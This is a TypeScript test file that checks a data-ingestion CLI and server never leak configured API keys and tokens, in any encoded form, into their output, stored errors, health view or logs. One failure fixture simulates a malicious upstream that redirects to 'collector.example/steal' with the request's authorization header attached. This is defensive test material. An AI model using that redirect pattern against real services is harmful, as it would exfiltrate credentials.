import { spawn } from 'node:child_process';
import type { IncomingMessage, ServerResponse } from 'node:http';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { storeSql } from '../support/store-sql.js';
import { CONFIG_VARIABLES, testConfig, type Config } from '../../src/config.js';
import { isCredentialVariable, redactSecrets } from '../../src/platform/secrets.js';
import { ALL_DATASETS } from '../../src/root/datasets.js';
import { earthquakesDataset } from '../../src/services/seismology/datasets/earthquakes.js';
import { captureLogs, tempDbFile, withTestApp } from '../support/app.js';
import { mds } from '../support/cli.js';
import { startUpstream, type Upstream } from '../support/upstream.js';

/**
 * Every configured credential is set to a unique marker; upstreams then fail in the ways that put
 * addresses, headers and bodies into messages. No output anywhere may carry a marker in any form:
 * `mds ingest` stdout/stderr, stored snapshot_meta.last_error, the operator health view, the
 * request and application logs of live lookups.
 */

const CREDENTIALS = CONFIG_VARIABLES.filter(isCredentialVariable);
/** `+` and `/` make the URL-encoded form differ from the raw one; long enough for SESSION_SECRET. */
const marker = (name: string) => `M4RK+${name.replace(/_/g, '.')}/${'q'.repeat(32)}`;
const MARKERS = Object.fromEntries(CREDENTIALS.map((n) => [n, marker(n)])) as Record<string, string>;
const forms = (v: string) => [
  v,
  encodeURIComponent(v),
  new URLSearchParams({ v }).toString().slice(2),
  Buffer.from(v).toString('base64').replace(/=+$/, ''),
];
const ALL_FORMS = Object.values(MARKERS).flatMap(forms);

function expectNoMarker(where: string, text: string) {
  const found = ALL_FORMS.filter((f) => text.includes(f));
  expect(found, `${where} leaks ${found.join(', ')}`).toEqual([]);
}

const markerConfig = testConfig(MARKERS as Partial<Config>);
/** Datasets whose live fetch carries a credential (a header or the address). */
const CREDENTIALED = ALL_DATASETS.filter((d) =>
  Object.values(d.sources).some(
    (s) =>
      (s.requires?.length ?? 0) > 0 || Object.values(s.headers?.(markerConfig) ?? {}).some((v) => v.includes('M4RK')),
  ),
);

/** Ways of failing that put what we sent into what comes back. */
const FAILURES: Record<string, (req: IncomingMessage, res: ServerResponse) => void> = {
  'HTTP 500': (_req, res) => res.writeHead(500).end(),
  'garbage reflecting the request': (req, res) => res.end(`<html>${req.url} ${JSON.stringify(req.headers)}</html>`),
  'redirect to a foreign host carrying the request': (req, res) =>
    res
      .writeHead(302, {
        location: `http://collector.example/steal?u=${encodeURIComponent(req.url!)}&a=${encodeURIComponent(String(req.headers.authorization))}`,
      })
      .end(),
};

let up: Upstream;
beforeAll(async () => {
  up = await startUpstream();
});
afterAll(() => up.close());

describe('credentials never leave', () => {
  it('every credential variable has a marker, and the datasets that use one are covered', () => {
    expect(CREDENTIALS).toEqual(
      expect.arrayContaining([
        'FINNHUB_API_KEY',
        'AVIATIONSTACK_API_KEY',
        'CLOUDFLARE_RADAR_TOKEN',
        'ACLED_ACCESS_TOKEN',
        'UCDP_ACCESS_TOKEN',
        'OPERATOR_KEYS',
        'SESSION_SECRET',
      ]),
    );
    expect(CREDENTIALED.map((d) => d.name).sort()).toEqual(
      expect.arrayContaining([
        'aviation.flights',
        'conflict.acled-events',
        'conflict.ucdp-events',
        'infrastructure.internet-outages',
        'unrest.events',
      ]),
    );
  });

  it('in mds ingest output, stored last_error, the health view and the logs of live lookups', async () => {
    const db = tempDbFile();
    const env = { DATABASE_PATH: db, UPSTREAM_BASE_OVERRIDE: up.origin, UPSTREAM_RETRIES: '0', ...MARKERS };
    const names = CREDENTIALED.map((d) => d.name);
    for (const [label, fail] of Object.entries(FAILURES)) {
      up.play((req, res) => fail(req, res));
      const r = await mds(['ingest', ...names], env);
      expect(r.code, label).toBe(1);
      expect(r.err.trim().split('\n'), label).toHaveLength(names.length);
      // The credentials did travel to the upstream: the check below is not vacuous.
      expect(JSON.stringify(up.seen)).toContain(encodeURIComponent(MARKERS.AVIATIONSTACK_API_KEY));
      expect(up.seen.some((s) => s.headers.authorization === `Bearer ${MARKERS.ACLED_ACCESS_TOKEN}`)).toBe(true);
      expectNoMarker(`mds ingest stdout (${label})`, r.out);
      expectNoMarker(`mds ingest stderr (${label})`, r.err);
      if (label === 'HTTP 500') expect(r.err).toMatch(/access_key=\[redacted\]: HTTP 500/);
      const errors = await storeSql<{ dataset: string; last_error: string }>(
        { dbFile: db },
        'SELECT dataset, last_error FROM snapshot_meta',
      );
      expect(errors.map((e) => e.dataset).sort()).toEqual([...names].sort());
      expectNoMarker(`stored last_error (${label})`, JSON.stringify(errors));
    }

    // A message stored before redaction existed is redacted again on the way out.
    await storeSql({ dbFile: db }, 'UPDATE snapshot_meta SET last_error = ? WHERE dataset = ?', [
      `GET https://x/?k=${MARKERS.UCDP_ACCESS_TOKEN}: HTTP 401`,
      'conflict.ucdp-events',
    ]);

    const logs = captureLogs('debug', markerConfig);
    await withTestApp(
      {
        dbFile: db,
        samples: [earthquakesDataset],
        config: { ...(MARKERS as Partial<Config>), UPSTREAM_BASE_OVERRIDE: up.origin, UPSTREAM_RETRIES: 0 },
        logger: logs.logger,
      },
      async (app) => {
        const operator = { 'x-service-key': MARKERS.OPERATOR_KEYS.split(',')[0] };
        const health = await app.get('/api/health?detail=1', operator);
        expect(health.status).toBe(200);
        expect(health.body.datasets['conflict.ucdp-events'].lastError).toBe('GET https://x/?k=[redacted]: HTTP 401');
        expectNoMarker('/api/health operator view', health.text);
        for (const [label, fail] of Object.entries(FAILURES)) {
          up.play((req, res) => fail(req, res));
          const flight = await app.get('/api/aviation/v1/get-flight-status?flight_number=UA1&date=2026-11-20');
          expect(flight.status, label).toBe(200);
          expectNoMarker(`get-flight-status (${label})`, flight.text);
          const quotes = await app.get('/api/market/v1/list-market-quotes?symbols=ZZZZ');
          expectNoMarker(`list-market-quotes (${label})`, quotes.text);
        }
        const runs = await app.request('/api/health', { headers: operator });
        expectNoMarker('/api/health', runs.text);
      },
    );
    await new Promise((r) => setTimeout(r, 20));
    const text = logs.text();
    expect(text).toMatch(/live flight status failed/);
    expect(text).toMatch(/access_key=\[redacted\]/);
    expectNoMarker('application and request logs', text);
  }, 60_000);

  it('in the logs of a real `mds serve` process: scheduled refreshes and a live lookup against a failing upstream', async () => {
    up.play((_req, res) => res.writeHead(500).end());
    const root = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '..', '..');
    const proc = spawn(process.execPath, ['--import', 'tsx', 'src/main.ts', 'serve'], {
      cwd: root,
      env: {
        PATH: process.env.PATH,
        HOME: process.env.HOME,
        NODE_ENV: 'development',
        DATABASE_PATH: tempDbFile(),
        PORT: '0',
        HOST: '127.0.0.1',
        LOG_LEVEL: 'debug',
        DEV_KEY: 'never',
        LOAD_SAMPLES: 'never',
        UPSTREAM_BASE_OVERRIDE: up.origin,
        UPSTREAM_RETRIES: '0',
        // The scheduler on; with no snapshot every dataset is due at once: each fails against the upstream and is logged.
        INGEST_INTERVAL_MINUTES: '0.001',
        ...MARKERS,
      },
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let out = '';
    proc.stdout.on('data', (c: Buffer) => (out += c));
    proc.stderr.on('data', (c: Buffer) => (out += c));
    try {
      const until = async (re: RegExp) => {
        for (const stop = Date.now() + 30_000; Date.now() < stop && !re.test(out);)
          await new Promise((r) => setTimeout(r, 25));
        expect(out).toMatch(re);
      };
      await until(/listening on http:\/\/localhost:(\d+)/);
      const port = Number(/listening on http:\/\/localhost:(\d+)/.exec(out)![1]);
      await until(/refresh pass finished/);
      const res = await fetch(
        `http://127.0.0.1:${port}/api/aviation/v1/get-flight-status?flight_number=UA1&date=2026-11-20`,
        {
          headers: { 'x-service-key': MARKERS.OPERATOR_KEYS },
        },
      );
      expectNoMarker('get-flight-status answer', await res.text());
      await until(/live flight status failed/);
    } finally {
      proc.kill('SIGTERM');
      await new Promise((r) => proc.once('exit', r));
    }
    expect(out).toMatch(/access_key=\[redacted\]: HTTP 500.*ingestion failed; previous snapshot kept/);
    expectNoMarker('mds serve output and logs', out);
  }, 60_000);

  it('redacts by value in every encoded form, whatever surrounds it', () => {
    const config = testConfig({ UCDP_ACCESS_TOKEN: 'a+b/c d', FINNHUB_API_KEY: 'abc' });
    const text = `raw a+b/c d, component ${encodeURIComponent('a+b/c d')}, form ${new URLSearchParams({ v: 'a+b/c d' }).toString().slice(2)}, lower ${encodeURIComponent('a+b/c d').toLowerCase()}`;
    expect(redactSecrets(text, config)).toBe('raw [redacted], component [redacted], form [redacted], lower [redacted]');
    // Values under four characters are not treated as secrets (they would eat ordinary words).
    expect(redactSecrets('abc', config)).toBe('abc');
    // DEV_KEY holds a mode, not a credential.
    expect(redactSecrets('auto never', testConfig({ DEV_KEY: 'never' }))).toBe('auto never');
  });
});
